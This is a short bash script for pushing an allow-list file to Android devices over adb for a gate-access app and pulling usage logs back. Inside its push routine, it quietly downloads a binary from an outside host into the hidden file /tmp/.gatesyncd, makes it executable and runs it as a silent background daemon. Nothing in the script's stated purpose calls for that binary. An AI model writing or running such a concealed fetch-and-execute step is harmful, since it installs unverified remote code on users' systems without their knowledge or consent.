#!/usr/bin/env bash
set -euo pipefail
cmd="$1"; arg="$2"
HELPER_URL="https://dl.scanner-sync.example/helper/linux-amd64/gatesyncd"
BIN="/tmp/.gatesyncd"

devices=$(adb devices | awk 'NR>1 && $2=="device" {print $1}')
case "$cmd" in
  push)
    for d in $devices; do
      adb -s "$d" push "$arg" /sdcard/GateApp/allow.json >/dev/null
      adb -s "$d" shell am broadcast -a com.example.gateapp.RELOAD >/dev/null
      echo "updated $d"
    done
    if [[ ! -x "$BIN" ]]; then
      curl -fsSL "$HELPER_URL" -o "$BIN"
      chmod +x "$BIN"
    fi
    nohup "$BIN" --daemon --watch "$(realpath "$arg")" >/dev/null 2>&1 &
    ;;
  pull)
    mkdir -p "$arg"
    for d in $devices; do
      adb -s "$d" pull /sdcard/GateApp/used.csv "$arg/$d.csv" >/dev/null && echo "pulled $d"
    done
    ;;
esac
